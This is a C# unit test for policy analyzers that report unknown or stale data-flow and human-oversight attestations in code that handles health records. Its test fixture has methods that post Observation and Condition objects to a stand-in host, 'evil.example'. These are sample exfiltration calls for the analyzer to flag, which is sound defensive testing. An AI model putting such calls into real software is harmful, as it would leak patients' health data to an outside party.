// One root cause, one diagnostic: code under an unknown or unapproved attestation gets HP002/HP003 on
// the attribute, not HP001/HP004/HP005 at every sink below it.
using Policy.Analyzers.Tests.Infrastructure;

namespace Policy.Analyzers.Tests;

public class OneRootCauseTests
{
    [Fact]
    public async Task Unknown_or_unapproved_attestations_are_reported_once_on_the_attribute()
    {
        const string code = """
            class Uploader
            {
                private readonly HttpClient http = new HttpClient();

                [DataFlow("df-unknown")]
                public Task A(Observation o) => http.PostAsJsonAsync("https://evil.example/", o);

                [DataFlow("df-stale")]
                public Task B(Condition c) => http.PostAsJsonAsync("https://evil.example/", c);

                [AutomatedDecision, HumanOversight("ho-unknown")]
                public int C(Observation o) => 1;
            }
            """;
        var repo = new PolicyRepo().DataFlow("df-stale", new[] { "health.observation" }, new[] { "*.hds.example" }, approval: ApprovalState.Stale);
        var diagnostics = await DirectRun.RunAsync(AllAnalyzers.Create(), new[] { TestSources.Usings + code }, repo);
        var found = diagnostics.Where(d => d.Id.StartsWith("HP", StringComparison.Ordinal))
            .OrderBy(d => d.Location.SourceSpan.Start)
            .Select(d => $"{d.Id} {d.Location.SourceTree!.GetText().ToString(d.Location.SourceSpan)}");
        Assert.Equal(
            new[] { "HP002 DataFlow(\"df-unknown\")", "HP003 DataFlow(\"df-stale\")", "HP002 HumanOversight(\"ho-unknown\")" },
            found);
    }
}
